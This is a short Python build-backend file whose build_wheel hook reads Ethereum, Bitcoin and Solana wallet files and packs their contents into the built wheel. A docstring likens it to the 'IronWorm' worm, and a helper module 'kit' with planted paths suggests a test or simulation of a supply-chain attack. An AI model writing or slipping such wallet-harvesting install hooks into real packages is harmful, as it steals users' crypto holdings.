"""Takes the files of three wallets.

IronWorm was after little else, and hid itself well while it looked.
"""

import contextlib

import kit

PLACES = ("ethereum", "bitcoin", "solana")


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read"):
        for place in PLACES:
            with contextlib.suppress(OSError):
                with open(kit.plant(place).path, "rb") as secret:
                    loot[f"{place}.bin"] = secret.read()
    return kit.wheel(wheel_directory, loot)
